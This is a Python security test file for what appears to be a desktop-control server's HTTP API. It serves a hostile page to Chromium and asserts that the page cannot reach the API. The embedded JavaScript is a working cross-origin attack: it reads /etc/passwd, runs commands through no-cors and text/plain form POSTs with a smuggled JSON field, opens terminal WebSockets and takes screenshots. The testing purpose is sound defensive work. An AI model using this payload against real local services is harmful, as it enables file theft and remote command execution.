"""S8: a page from elsewhere, in a browser on the desktop itself, can do nothing with the server it can reach."""

from __future__ import annotations

import json
import queue
import secrets
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest

from ..support import terminal
from ..support.desktop import begin
from ..support.server import serve

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    import httpx2

    from ..support.server import Server

DEADLINE = 110.0

PAGE = """<!doctype html><title>hostile</title><body><iframe name="nowhere"></iframe><script type="module">
const api = API, terminal = TERMINAL, mark = MARK, told = {};
const read = (path, options) => fetch(api + path, options).then((answer) => answer.text()).then(
  (text) => "read " + text, (error) => "refused");
const socket = (path) => new Promise((resolve) => {
  const made = new WebSocket(api.replace("http", "ws") + path);
  made.onopen = () => resolve("opened");
  made.onerror = () => resolve("refused");
});
const run = JSON.stringify({ command: "touch", args: [mark] });
const post = (type, mode) =>
  read("/v1/processes/run", { method: "POST", mode, body: run, headers: { "Content-Type": type } });
told.health = await read("/v1/health");
told.file = await read("/v1/fs/file?path=/etc/passwd");
told.json = await post("application/json", "cors");
told.simple = await post("text/plain", "cors");
told.blind = await post("text/plain", "no-cors");
told.put = await read("/v1/fs/file?path=" + mark, { method: "PUT", body: "x" });
told.upload = await read("/v1/fs/upload-batch?path=" + mark, { method: "POST", body: "x", mode: "no-cors" });
told.desktop = await read("/v1/desktop/mouse/click", { method: "POST", body: "{}", mode: "no-cors" });
told.terminal = await socket(terminal);
told.stream = await socket("/v1/desktop/stream/ws");
told.signaling = await socket("/v1/desktop/stream/signaling");
const form = document.createElement("form");
Object.assign(form, { action: api + "/v1/processes/run", method: "post", enctype: "text/plain", target: "nowhere" });
const field = document.createElement("input");
[field.name, field.value] = [run.slice(0, -1) + ',"x":"', '"}'];
form.append(field);
document.body.append(form);
const answered = new Promise((resolve) => { document.querySelector("iframe").onload = resolve; });
form.submit();
told.image = await new Promise((resolve) => {
  const image = new Image();
  image.onload = () => resolve("shown");
  image.onerror = () => resolve("refused");
  image.src = api + "/v1/desktop/screenshot";
});
await answered;
await fetch("/told", { method: "POST", body: JSON.stringify(told) });
</script>"""


class Elsewhere:
    """Another site on this machine, which serves the page and hears what it could do."""

    def __init__(self) -> None:
        self.page = b""
        told: queue.Queue[dict[str, str]] = queue.Queue()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler) -> None:  # noqa: N805 - http.server's names; self is the site
                handler.send_response(200)
                handler.send_header("Content-Type", "text/html")
                handler.end_headers()
                handler.wfile.write(self.page)

            def do_POST(handler) -> None:  # noqa: N805
                told.put(json.loads(handler.rfile.read(int(handler.headers["Content-Length"]))))
                handler.send_response(204)
                handler.end_headers()

            def log_message(handler, *_: Any) -> None:  # noqa: N805
                pass

        self.told = told
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}/"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    yield site
    site.close()


@pytest.fixture(params=[True, False], ids=["token", "no token"])
def server(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Server]:
    """Without a token nothing but the page's origin tells it from a program."""
    with serve(tmp_path / "server", token=secrets.token_hex(8) if request.param else None) as running:
        yield running


def launch(client: httpx2.Client, profile: Path, url: str) -> None:
    """Chromium on the desktop, at a page."""
    begin(client)
    options = ["--no-sandbox", "--no-first-run", f"--user-data-dir={profile}", "--disable-gpu"]
    answer = client.post("/v1/desktop/launch", json={"app": "chromium", "args": [*options, url]})
    assert answer.status_code == 200, answer.text


@pytest.mark.timeout(180)
def test_it_reads_nothing_changes_nothing_and_opens_no_socket(
    server: Server, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    mark = tmp_path / "mark"
    with server.client() as client:
        shell = terminal.start(client, "cat")
        known = {"API": server.url, "TERMINAL": f"/v1/processes/{shell}/terminal/ws", "MARK": str(mark)}
        page = PAGE
        for name, value in known.items():
            page = page.replace(name, json.dumps(value), 1)
        elsewhere.page = page.encode()
        launch(client, tmp_path / "profile", elsewhere.url)
        told = elsewhere.told.get(timeout=DEADLINE)
        blind = {"blind", "upload", "desktop"}  # the browser sends these and keeps their answers from the page
        assert {told.pop(name) for name in blind} <= {"read ", "refused"}
        assert set(told.values()) == {"refused"}, told
        assert not mark.exists()
        assert [
            info["command"] for info in client.get("/v1/processes").json()["processes"] if info["owner"] == "user"
        ] == ["cat"]
